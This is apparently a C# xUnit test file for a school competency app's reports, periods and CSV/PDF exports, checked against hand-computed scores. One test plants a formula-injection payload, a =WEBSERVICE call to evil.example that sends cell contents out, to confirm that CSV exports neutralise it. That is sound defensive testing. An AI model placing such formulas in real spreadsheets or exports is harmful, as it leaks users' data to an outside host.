using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using Sacoche.Competences.Tests.Api;
using Xunit;
using static Sacoche.Competences.Tests.Reports.ReportTestData;

namespace Sacoche.Competences.Tests.Reports;

/// <summary>
/// Class and group reports, synthesis, bilan chronologique and their exports, checked against results
/// computed by hand (docs/domain/codes-and-scores.md: geometric weights 1, 2, 4…; round half away from zero; NA 0–39, VA 40–60, A 61–100;
/// codes RR 0, R 33, V 67, VV 100).
/// </summary>
// One collection for the report tests: run one after another, so that they add one host (not five) to the parallel fixtures.
[Collection("Reports")]
public sealed class ClassReportTests(CompetencesApp app) : IClassFixture<CompetencesApp>, IAsyncLifetime
{
    private static readonly SemaphoreSlim Gate = new(1, 1);
    private static (string Subject, long[] Items)? _periods;

    public Task InitializeAsync() => Task.CompletedTask;

    public Task DisposeAsync() => Task.CompletedTask;

    /// <summary>
    /// Subject with three one-item referentials, one per retroactivity: 3E "non", 4E "oui", 5E "annuel".
    /// Periods: T1 = 01/09/2026–30/11/2026, T2 = 01/12/2026–28/02/2027 (created through /periods); school year switches in August.
    /// Student1 on each item: 15/06/2026 RR (previous school year), 10/10/2026 R (T1), 10/12/2026 V (T2), 10/03/2027 VV (after T2).
    /// Student2 on each item: 10/10/2026 VV (T1) only.
    /// </summary>
    private static long T1, T2;

    private static async Task<long> CreatePeriodAsync(HttpClient admin, string name, string start, string end)
    {
        var response = await admin.PostAsJsonAsync("/api/competences/periods", new { name, start, end, classCodes = Array.Empty<string>() });
        Assert.Equal(System.Net.HttpStatusCode.Created, response.StatusCode);
        return (await CompetencesApp.JsonAsync(response)).GetProperty("id").GetInt64();
    }

    private async Task<(string Subject, long[] Items)> PeriodDataAsync()
    {
        await Gate.WaitAsync();
        try
        {
            if (_periods is { } ready && ready.Subject.Length > 0 && await app.CountAsync("SELECT count(*) FROM referentials") > 0)
            {
                return ready;
            }
            var admin = app.AdminClient();
            T1 = await CreatePeriodAsync(admin, "Trimestre 1", "2026-09-01", "2026-11-30");
            T2 = await CreatePeriodAsync(admin, "Trimestre 2", "2026-12-01", "2027-02-28");
            var subject = await app.NewSubjectAsync();
            var (_, non) = await app.CreateReferentialAsync(admin, subject, "3E", items: 1, retroactivity: "non");
            var (_, oui) = await app.CreateReferentialAsync(admin, subject, "4E", items: 1, retroactivity: "oui");
            var (_, annuel) = await app.CreateReferentialAsync(admin, subject, "5E", items: 1, retroactivity: "annuel");
            long[] items = [non[0], oui[0], annuel[0]];
            foreach (var (date, code) in new[] { ("2026-06-15", "RR"), ("2026-10-10", "R"), ("2026-12-10", "V"), ("2027-03-10", "VV") })
            {
                var cells = items.Select(i => (app.Student1, i, code)).ToList();
                if (date == "2026-10-10")
                {
                    cells.AddRange(items.Select(i => (app.Student2, i, "VV")));
                }
                await EvaluateAsync(admin, date, items, [.. cells]);
            }
            _periods = (subject, items);
            return _periods.Value;
        }
        finally
        {
            Gate.Release();
        }
    }

    [Fact]
    public async Task Class_report_in_period_2_applies_each_retroactivity()
    {
        var (subject, _) = await PeriodDataAsync();
        var report = await GetJsonAsync(app.Teacher1Client(), $"/api/competences/reports/classes/3A?subject={subject}&periodId={T2}");
        Assert.Equal("Trimestre 2", report.GetProperty("period").GetProperty("name").GetString());
        Assert.False(report.GetProperty("isGroup").GetBoolean());
        // Columns in referential order: 3E (non), 4E (oui), 5E (annuel).
        var items = report.GetProperty("items");
        Assert.Equal(3, items.GetArrayLength());
        var students = report.GetProperty("students");
        Assert.Equal(["Bernard", "Dubois"], students.EnumerateArray().Select(s => s.GetProperty("lastName").GetString()!).ToArray());
        var s1 = students[0].GetProperty("cells");
        // non: only entries from 01/12/2026: V → 67 → A.
        Assert.Equal((67, "A"), Cell(s1[0]));
        // oui: every earlier entry counts: RR, R, V → (0·1 + 33·2 + 67·4) / 7 = 334 / 7 = 47.71 → 48 → VA.
        Assert.Equal((48, "VA"), Cell(s1[1]));
        // annuel: from the school year start 01/08/2026: R, V → (33·1 + 67·2) / 3 = 167 / 3 = 55.67 → 56 → VA.
        Assert.Equal((56, "VA"), Cell(s1[2]));
        // The 10/03/2027 VV is after the period's end: never counted.
        // Student1: mean (67 + 48 + 56) / 3 = 171 / 3 = 57; percent (100 + 50 + 50) / 3 = 66.67 → 67; /20 = 13.4.
        Assert.Equal(57, students[0].GetProperty("mean").GetInt32());
        Assert.Equal(67, students[0].GetProperty("percentAcquired").GetInt32());
        Assert.Equal(13.4m, students[0].GetProperty("outOf20").GetDecimal());
        // Student2 has only a T1 entry: no value dated in T2 → no score, whatever the retroactivity (even "oui").
        Assert.All(students[1].GetProperty("cells").EnumerateArray(), c => Assert.Equal(JsonValueKind.Null, c.GetProperty("score").ValueKind));
        Assert.Equal(JsonValueKind.Null, students[1].GetProperty("mean").ValueKind);
        // Distribution per item: item "non": A 1, not assessed 1; items "oui" and "annuel": VA 1, not assessed 1.
        Assert.Equal("NA:0 VA:0 A:1 -:1", Distribution(items[0]));
        Assert.Equal("NA:0 VA:1 A:0 -:1", Distribution(items[1]));
        Assert.Equal("NA:0 VA:1 A:0 -:1", Distribution(items[2]));
        Assert.Equal(48, items[1].GetProperty("mean").GetInt32());
    }

    [Fact]
    public async Task Class_report_in_period_1_and_student_report_with_periodId()
    {
        var (subject, _) = await PeriodDataAsync();
        var report = await GetJsonAsync(app.AdminClient(), $"/api/competences/reports/classes/3A?subject={subject}&periodId={T1}");
        var s1 = report.GetProperty("students")[0];
        // non: R → 33 → NA. oui: RR, R → (0·1 + 33·2) / 3 = 22 → NA. annuel: the 15/06 RR belongs to the previous school year: R → 33 → NA.
        Assert.Equal([(33, "NA"), (22, "NA"), (33, "NA")], s1.GetProperty("cells").EnumerateArray().Select(Cell).ToArray());
        // Mean (33 + 22 + 33) / 3 = 88 / 3 = 29.33 → 29; all NA → 0 %.
        Assert.Equal(29, s1.GetProperty("mean").GetInt32());
        Assert.Equal(0, s1.GetProperty("percentAcquired").GetInt32());
        var s2 = report.GetProperty("students")[1];
        // Student2: VV everywhere → 100, A; mean 100, 100 %.
        Assert.Equal([(100, "A"), (100, "A"), (100, "A")], s2.GetProperty("cells").EnumerateArray().Select(Cell).ToArray());
        Assert.Equal(100, s2.GetProperty("percentAcquired").GetInt32());
        Assert.Equal("NA:1 VA:0 A:1 -:0", Distribution(report.GetProperty("items")[0]));

        // The student report takes the same periodId: same scores as the class report's T2 row, entries shown from 01/12/2026 only.
        var student = await GetJsonAsync(app.AdminClient(), $"/api/competences/reports/students/{app.Student1}?subject={subject}&periodId={T2}");
        Assert.Equal("2026-12-01", student.GetProperty("from").GetString());
        Assert.Equal("2027-02-28", student.GetProperty("to").GetString());
        var subj = student.GetProperty("subjects")[0];
        Assert.Equal([67, 48, 56], subj.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("score").GetInt32()).ToArray());
        Assert.All(subj.GetProperty("items").EnumerateArray(), i => Assert.Equal(1, i.GetProperty("entries").GetArrayLength()));
        Assert.Equal(57, subj.GetProperty("mean").GetInt32());
        Assert.Equal(67, subj.GetProperty("percentAcquired").GetInt32());

        var unknown = await app.AdminClient().GetAsync($"/api/competences/reports/classes/3A?periodId=999999999");
        Assert.Equal(System.Net.HttpStatusCode.BadRequest, unknown.StatusCode);
        var problem = await CompetencesApp.JsonAsync(unknown);
        Assert.Equal("https://sacoche.fr/problems/validation", problem.GetProperty("type").GetString());
        Assert.Contains("période n° 999999999", problem.GetProperty("detail").GetString());
        Assert.Contains("période n° 999999999", problem.GetProperty("errors").GetProperty("periodId")[0].GetString());
    }

    [Fact]
    public async Task Group_report_lists_the_group_students_from_both_classes()
    {
        var (subject, _) = await PeriodDataAsync();
        // Teacher1 teaches group G1 (Student1 of 3A, Student3 of 3B).
        foreach (var url in new[] { $"/api/competences/reports/groups/G1?subject={subject}&periodId={T2}", $"/api/competences/reports/classes/G1?subject={subject}&periodId={T2}" })
        {
            var report = await GetJsonAsync(app.Teacher1Client(), url);
            Assert.True(report.GetProperty("isGroup").GetBoolean());
            Assert.Equal(["Bernard", "Moreau"], report.GetProperty("students").EnumerateArray().Select(s => s.GetProperty("lastName").GetString()!).ToArray());
            Assert.Equal(57, report.GetProperty("students")[0].GetProperty("mean").GetInt32());
            Assert.Equal(JsonValueKind.Null, report.GetProperty("students")[1].GetProperty("mean").ValueKind);
        }
    }

    [Fact]
    public async Task Synthesis_by_domain_or_theme_follows_the_referential_mode()
    {
        var admin = app.AdminClient();
        // Same tree in two subjects: Nombres (Fractions: i1, i2; Décimaux: i3), Géométrie (Figures: i4); codes VV, R, V, RR.
        var byDomain = await app.NewSubjectAsync();
        var byTheme = await app.NewSubjectAsync();
        var itemsDomain = await CreateTwoDomainReferentialAsync(admin, byDomain, "domaine");
        var itemsTheme = await CreateTwoDomainReferentialAsync(admin, byTheme, "theme");
        string[] codes = ["VV", "R", "V", "RR"];
        await EvaluateAsync(admin, "2026-11-05", itemsDomain, [.. itemsDomain.Select((i, k) => (app.Student2, i, codes[k]))]);
        await EvaluateAsync(admin, "2026-11-05", itemsTheme, [.. itemsTheme.Select((i, k) => (app.Student2, i, codes[k]))]);

        var synthesis = await GetJsonAsync(admin, $"/api/competences/reports/students/{app.Student2}/synthesis?subject={byDomain}");
        var subject = synthesis.GetProperty("subjects")[0];
        // Subject: mean (100 + 33 + 67 + 0) / 4 = 50; percent (100 + 0 + 100 + 0) / 4 = 50.
        Assert.Equal(50, subject.GetProperty("mean").GetInt32());
        Assert.Equal(50, subject.GetProperty("percentAcquired").GetInt32());
        var groups = subject.GetProperty("groups");
        // Nombres: 100, 33, 67 → mean 200 / 3 = 66.67 → 67; A, NA, A → 200 / 3 = 66.67 → 67. Géométrie: 0, 0 %.
        Assert.Equal("domaine:Nombres:3:67:67 domaine:Géométrie:1:0:0", Groups(groups));

        var themes = (await GetJsonAsync(admin, $"/api/competences/reports/students/{app.Student2}/synthesis?subject={byTheme}")).GetProperty("subjects")[0].GetProperty("groups");
        // Fractions: 100, 33 → 133 / 2 = 66.5 → 67 (half away from zero); A, NA → 50 %. Décimaux: 67, 100 %. Figures: 0, 0 %.
        Assert.Equal("theme:Fractions:2:67:50 theme:Décimaux:1:67:100 theme:Figures:1:0:0", Groups(themes));
    }

    [Fact]
    public async Task Bilan_chronologique_gives_the_subject_after_each_evaluation()
    {
        var admin = app.AdminClient();
        var subject = await app.NewSubjectAsync();
        var (_, items) = await app.CreateReferentialAsync(admin, subject, "6E", items: 1);
        await EvaluateAsync(admin, "2026-10-01", items, (app.Student2, items[0], "R"));
        await EvaluateAsync(admin, "2026-10-02", items, (app.Student2, items[0], "V"));
        await EvaluateAsync(admin, "2026-10-03", items, (app.Student2, items[0], "VV"));
        var chronology = await GetJsonAsync(admin, $"/api/competences/reports/students/{app.Student2}/chronology?subject={subject}");
        var points = chronology.GetProperty("points");
        // After 01/10: R → 33 (NA, 0 %). After 02/10: R, V → (33 + 134) / 3 = 55.67 → 56 (VA, 50 %).
        // After 03/10: R, V, VV → (33 + 134 + 400) / 7 = 81 (A, 100 %).
        Assert.Equal("2026-10-01:R:33:0 2026-10-02:V:56:50 2026-10-03:VV:81:100", string.Join(" ", points.EnumerateArray().Select(p =>
            $"{p.GetProperty("date").GetString()}:{p.GetProperty("entries")[0].GetProperty("sigle").GetString()}:{p.GetProperty("mean").GetInt32()}:{p.GetProperty("percentAcquired").GetInt32()}")));
    }

    [Fact]
    public async Task Csv_exports_neutralise_cells_a_spreadsheet_would_evaluate()
    {
        await PeriodDataAsync(); // the periods
        var admin = app.AdminClient();
        var subject = await app.NewSubjectAsync();
        const string formula = "=WEBSERVICE(\"https://evil.example/?\"&A1)";
        var (_, items) = await app.CreateReferentialAsync(admin, subject, "3E", items: 1, itemName: formula);
        await EvaluateAsync(admin, "2026-12-10", items, (app.Student1, items[0], "V"));

        var releve = ParseCsv(await GetBytesAsync(app.Teacher1Client(), $"/api/competences/reports/students/{app.Student1}?subject={subject}&periodId={T2}&format=csv", "text/csv"));
        var row = Assert.Single(releve.Records);
        Assert.Equal("'" + formula + " 1", row[3]);
        Assert.Equal("67", row[5]); // numbers stay numbers
    }

    [Fact]
    public async Task Class_table_and_releve_export_as_csv_and_pdf()
    {
        var (subject, _) = await PeriodDataAsync();
        var teacher = app.Teacher1Client();
        var csv = ParseCsv(await GetBytesAsync(teacher, $"/api/competences/reports/classes/3A?subject={subject}&periodId={T2}&format=csv", "text/csv"));
        Assert.Equal("Nom", csv.Header[0]);
        Assert.Equal("Prénom", csv.Header[1]);
        Assert.Equal(["Moyenne", "Pourcentage d'items acquis", "Note sur 20"], csv.Header[^3..]);
        Assert.Equal(2 + 3 + 3, csv.Header.Length);
        var bernard = csv.Records.Single(r => r[0] == "Bernard");
        Assert.Equal(["Bernard", "Emma", "67 (A)", "48 (VA)", "56 (VA)", "57", "67", "13,4"], bernard);
        Assert.Contains(csv.Records, r => r[0] == "Effectif VA" && r[3] == "1");

        var (pages, text) = ParsePdf(await GetBytesAsync(teacher, $"/api/competences/reports/classes/3A?subject={subject}&periodId={T2}&format=pdf", "application/pdf"));
        Assert.Equal(1, pages);
        Assert.Contains("Tableau de synthèse de la classe", text);
        Assert.Contains("Bernard Emma", text);
        Assert.Contains("Trimestre 2", text);
        Assert.Contains("Partiellement acquis", text);

        var releve = ParseCsv(await GetBytesAsync(teacher, $"/api/competences/reports/students/{app.Student1}?subject={subject}&periodId={T2}&format=csv", "text/csv"));
        Assert.Equal(["Élève", "Matière", "Référence", "Item", "Coefficient", "Score", "État", "Saisies", "Moyenne de la matière", "Pourcentage d'items acquis", "Note sur 20"], releve.Header);
        Assert.Equal(3, releve.Records.Count);
        Assert.Equal("48", releve.Records[1][5]);
        var (relevePages, releveText) = ParsePdf(await GetBytesAsync(teacher, $"/api/competences/reports/students/{app.Student1}?subject={subject}&periodId={T2}&format=pdf", "application/pdf"));
        Assert.Equal(1, relevePages);
        Assert.Contains("Relevé d'évaluations", releveText);
        Assert.Contains("Bernard Emma", releveText);
        Assert.Contains("moyenne : 57 %", releveText);

        var bad = await teacher.GetAsync($"/api/competences/reports/classes/3A?format=xls");
        Assert.Equal(System.Net.HttpStatusCode.BadRequest, bad.StatusCode);
    }

    [Fact]
    public async Task A_long_class_table_pdf_spans_several_pages()
    {
        var admin = app.AdminClient();
        var subject = await app.NewSubjectAsync();
        var (_, items) = await app.CreateReferentialWithItemsAsync(admin, subject, "4E", 40);
        await EvaluateAsync(admin, "2026-11-20", items, [.. items.Select((i, k) => (app.Student1, i, k % 2 == 0 ? "V" : "R"))]);
        var (pages, text) = ParsePdf(await GetBytesAsync(admin, $"/api/competences/reports/classes/3A?subject={subject}&format=pdf", "application/pdf"));
        // 40 items → 3 column blocks of 18 items, then the list of items: more than one page.
        Assert.True(pages >= 2, $"{pages} page(s)");
        Assert.Contains("Items 19 à 36 sur 40", text);
        Assert.Contains($"Page 1 / {pages}", text);
    }

    private static (int?, string?) Cell(JsonElement cell) =>
        (cell.GetProperty("score").ValueKind == JsonValueKind.Null ? null : cell.GetProperty("score").GetInt32(), cell.GetProperty("state").GetString());

    private static string Distribution(JsonElement item) =>
        string.Join(" ", item.GetProperty("distribution").EnumerateArray().Select(d => $"{d.GetProperty("sigle").GetString()}:{d.GetProperty("count").GetInt32()}"))
        + $" -:{item.GetProperty("notAssessed").GetInt32()}";

    private static string Groups(JsonElement groups) => string.Join(" ", groups.EnumerateArray().Select(g =>
        $"{g.GetProperty("kind").GetString()}:{g.GetProperty("name").GetString()}:{g.GetProperty("items").GetInt32()}:{g.GetProperty("mean").GetInt32()}:{g.GetProperty("percentAcquired").GetInt32()}"));

    private static async Task<long[]> CreateTwoDomainReferentialAsync(HttpClient client, string subject, string mode)
    {
        var body = new
        {
            subjectCode = subject,
            levelCode = "6E",
            synthesisMode = mode,
            domains = new object[]
            {
                new
                {
                    code = "N", name = "Nombres",
                    themes = new[]
                    {
                        new { name = "Fractions", items = new[] { new { name = "Comparer" }, new { name = "Additionner" } } },
                        new { name = "Décimaux", items = new[] { new { name = "Ranger" } } },
                    },
                },
                new { code = "G", name = "Géométrie", themes = new[] { new { name = "Figures", items = new[] { new { name = "Tracer" } } } } },
            },
        };
        var response = await client.PostAsJsonAsync("/api/competences/referentials", body);
        var json = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, json);
        using var doc = JsonDocument.Parse(json);
        Assert.Equal(mode, doc.RootElement.GetProperty("synthesisMode").GetString());
        return [.. doc.RootElement.GetProperty("domains").EnumerateArray().SelectMany(d => d.GetProperty("themes").EnumerateArray())
            .SelectMany(t => t.GetProperty("items").EnumerateArray()).Select(i => i.GetProperty("id").GetInt64())];
    }
}
